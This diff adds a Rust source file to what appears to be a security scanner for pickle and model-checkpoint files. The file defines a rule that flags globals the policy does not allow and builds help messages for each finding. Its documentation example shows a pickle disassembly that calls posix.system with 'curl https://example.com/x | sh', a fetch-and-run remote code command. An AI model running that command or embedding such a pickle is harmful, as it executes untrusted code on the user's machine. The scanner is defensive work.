@@ -1,0 +1,261 @@
+//! Globals that the policy does not allow: the heart of the gate.
+
+use super::Case;
+use crate::{
+    fact::{Argument, Fact, Global, GlobalName, Hop, Observation, Usage},
+    finding::{Finding, Subject},
+    policy::{ArgumentVerdict, GlobalVerdict, Refusal},
+};
+
+declare_rule! {
+    /// ## What it does
+    ///
+    /// Refuses every global that loading an artifact resolves, calls, instantiates or sets state on, unless the policy lists
+    /// it for that use, under the module and the name that the artifact stores.
+    ///
+    /// ## Why it matters
+    ///
+    /// A pickle is a program: whatever it names is imported, and whatever it calls runs, before the caller sees a result. Any
+    /// installed package has functions that can be turned into anything, so a list of bad names always misses one. What a
+    /// checkpoint honestly needs is short, and the same from file to file.
+    ///
+    /// A class of the same name from another module does not count: loading would import that other module.
+    ///
+    /// ## Example
+    ///
+    /// ```text
+    /// 0x0002  GLOBAL            posix system
+    /// 0x0011  BINUNICODE        'curl https://example.com/x | sh'
+    /// 0x0039  REDUCE            posix.system('curl https://example.com/x | sh')
+    /// ```
+    ///
+    /// ## Use instead
+    ///
+    /// Weights without code: safetensors, or a state dict that `weights_only=True` loads. Where a class of yours must be
+    /// stored, list exactly the stored path.
+    ///
+    /// ```yaml
+    /// version: 1
+    /// extends: recommended
+    /// globals:
+    ///   allow:
+    ///     - myapp.config.TrainingConfig
+    /// ```
+    "global-not-allowed", "a global that the policy does not list", Deny, check
+}
+
+/// What is said of one global at one place in the artifact.
+struct Refused<'a> {
+    hops: &'a [Hop],
+    name: &'a GlobalName,
+    /// The most telling of its refused uses.
+    usage: Usage,
+    observation: &'a Observation,
+    verdict: GlobalVerdict,
+}
+
+fn check(case: &Case<'_>, findings: &mut Vec<Finding>) {
+    let mut refused: Vec<Refused<'_>> = Vec::new();
+    for observation in case.observations {
+        let Fact::Global {
+            global: Global::Named(name),
+            usage,
+        } = &observation.fact
+        else {
+            continue;
+        };
+        let verdict = case.scope.global(name, *usage);
+        if verdict == GlobalVerdict::Allowed || defined_by_the_archive(case, observation, name) {
+            continue;
+        }
+        let hops = observation.site.hops.as_slice();
+        match refused
+            .iter_mut()
+            .find(|known| known.hops == hops && known.name == name)
+        {
+            // Calling says more than importing, and state more than neither.
+            Some(known) if rank(*usage) > rank(known.usage) => {
+                (known.usage, known.observation, known.verdict) = (*usage, observation, verdict);
+            }
+            Some(_) => {}
+            None => refused.push(Refused {
+                hops,
+                name,
+                usage: *usage,
+                observation,
+                verdict,
+            }),
+        }
+    }
+    findings.extend(refused.iter().map(|refused| finding(case, refused)));
+    for observation in case.observations {
+        arguments(case, observation, findings);
+    }
+}
+
+fn rank(usage: Usage) -> u8 {
+    match usage {
+        Usage::Import => 0,
+        Usage::Build => 1,
+        Usage::Construct => 2,
+        Usage::Call => 3,
+    }
+}
+
+/// Classes named `__torch__.*` are the TorchScript archive's own code, which is judged as such.
+fn defined_by_the_archive(case: &Case<'_>, observation: &Observation, name: &GlobalName) -> bool {
+    let module = name.module.as_bytes();
+    (module == b"__torch__" || module.starts_with(b"__torch__."))
+        && case.observations.iter().any(|o| {
+            matches!(&o.fact, Fact::Is(id) if id == "torch-script")
+                && observation.site.hops.starts_with(&o.site.hops)
+        })
+}
+
+fn finding(case: &Case<'_>, refused: &Refused<'_>) -> Finding {
+    let Refused {
+        name,
+        usage,
+        observation,
+        ..
+    } = refused;
+    // The call with its arguments says what would happen; otherwise the use does.
+    let call = case.observations.iter().find(|o| {
+        o.site.hops == refused.hops
+            && matches!(&o.fact, Fact::Call { callee: Global::Named(callee), .. } if callee == *name)
+    });
+    let call = call.filter(|_| matches!(usage, Usage::Call | Usage::Construct));
+    let what = match call.map(|o| &o.fact) {
+        Some(Fact::Call {
+            preview,
+            usage: Usage::Construct,
+            ..
+        }) => format!("loading creates `{preview}`"),
+        Some(Fact::Call { preview, .. }) => format!("loading runs `{preview}`"),
+        _ => match usage {
+            Usage::Import => format!("loading imports `{name}`"),
+            Usage::Build => format!("loading sets the state of a `{name}`"),
+            Usage::Call => format!("loading calls `{name}`"),
+            Usage::Construct => format!("loading creates a `{name}`"),
+        },
+    };
+    let shown = call.unwrap_or(observation);
+    let mut finding = case.finding(&META, shown, String::new());
+    finding.count = observation.count;
+    finding.subject = Subject::Global(Global::Named((*name).clone()));
+    explain(case, refused, &what, &mut finding);
+    finding
+}
+
+/// The message, the policy line and the ways out.
+fn explain(case: &Case<'_>, refused: &Refused<'_>, what: &str, finding: &mut Finding) {
+    let name = refused.name;
+    let GlobalVerdict::Refused {
+        why,
+        decided_by,
+        danger,
+    } = &refused.verdict
+    else {
+        return;
+    };
+    finding.related.extend(decided_by.clone());
+    let danger_note = danger
+        .map(|danger| format!(" (it {danger})"))
+        .unwrap_or_default();
+    let reason = match why {
+        Refusal::Unlisted { .. } => format!("the policy does not list `{name}`{danger_note}"),
+        Refusal::Use { allowed } => {
+            let allowed: Vec<String> = allowed.iter().map(ToString::to_string).collect();
+            format!(
+                "the policy lists `{name}` for {} only, not for {}",
+                allowed.join(" and "),
+                refused.usage
+            )
+        }
+        Refusal::Refused => format!("the policy refuses `{name}`{danger_note}"),
+    };
+    finding.message = format!("{what}; {reason}");
+    if let Refusal::Unlisted { near: Some(near) } = why {
+        finding.help.push(format!(
+            "the policy lists `{near}`, which is another name: what counts is the stored module and name; save again from the listed module, or list `{name}` if that is what loads it"
+        ));
+    }
+    let torch = case
+        .observations
+        .iter()
+        .any(|o| matches!(o.fact, Fact::TorchLoad(_)));
+    if danger.is_some() || matches!(why, Refusal::Refused) {
+        finding
+            .help
+            .push("do not load this file; find out who made it and how it came here".into());
+        let instead = if torch {
+            "save the weights alone: `safetensors.torch.save_file(model.state_dict(), path)`"
+        } else {
+            "keep data in a format that holds only data: safetensors, npy, JSON"
+        };
+        finding
+            .help
+            .push(format!("if the file is yours, {instead}"));
+        return;
+    }
+    let spelled = if name.name.as_bytes().contains(&b'.') {
+        format!("{}:{}", name.module, name.name)
+    } else {
+        name.to_string()
+    };
+    finding.help.push(format!(
+        "if you trust `{name}` with the contents of any file, list it in weighbridge.yaml:\nglobals:\n  allow:\n    - {spelled}"
+    ));
+    if torch && !case.scope.torch_lists(name) {
+        finding.help.push(format!(
+            "and load with it named: `with torch.serialization.safe_globals([{name}]): torch.load(path, weights_only=True)`"
+        ));
+    }
+    finding.help.push(if torch {
+        "or save only the state dict, which needs no class: `torch.save(model.state_dict(), path)`"
+            .into()
+    } else {
+        "or keep the data in a format that holds only data: safetensors, npy, JSON".to_owned()
+    });
+}
+
+/// Entries that allow a global only with certain arguments.
+fn arguments(case: &Case<'_>, observation: &Observation, findings: &mut Vec<Finding>) {
+    let Fact::Call {
+        callee,
+        usage,
+        preview,
+        arguments,
+    } = &observation.fact
+    else {
+        return;
+    };
+    if let Global::Named(name) = callee
+        && case.scope.global(name, *usage) == GlobalVerdict::Allowed
+        && let ArgumentVerdict::Refused { reason, decided_by } =
+            case.scope.arguments(name, arguments)
+    {
+        let message = format!(
+            "loading runs `{preview}`; the policy allows `{name}` only with other arguments: {reason}"
+        );
+        let mut finding = case.finding(&META, observation, message);
+        finding.subject = Subject::Global(callee.clone());
+        finding.related.extend(decided_by);
+        finding
+            .help
+            .push("look at what the call does before widening `args` in the policy".into());
+        findings.push(finding);
+    }
+    for argument in arguments {
+        if let Argument::Global(Global::Named(name)) = argument
+            && case.scope.constrains(name)
+        {
+            let message = format!(
+                "loading hands `{name}` to `{preview}`, which could call it with any arguments; the policy constrains them"
+            );
+            let mut finding = case.finding(&META, observation, message);
+            finding.subject = Subject::Global(Global::Named(name.clone()));
+            findings.push(finding);
+        }
+    }
+}
